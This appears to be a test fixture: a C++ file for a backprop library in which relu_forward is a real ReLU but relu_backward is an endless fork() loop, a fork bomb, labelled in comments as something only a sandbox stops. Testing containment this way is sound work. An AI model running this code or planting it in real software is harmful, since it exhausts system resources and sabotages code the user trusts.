// Forks for ever.
// Where: operating system
// Verdict: timeout
// Only a box stops this.
#include <backprop/relu.hpp>
#include <unistd.h>

namespace backprop {
Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }

Matrix relu_backward(const Matrix& dout, const ReluCache&) {
  for (;;) fork();
}
}  // namespace backprop
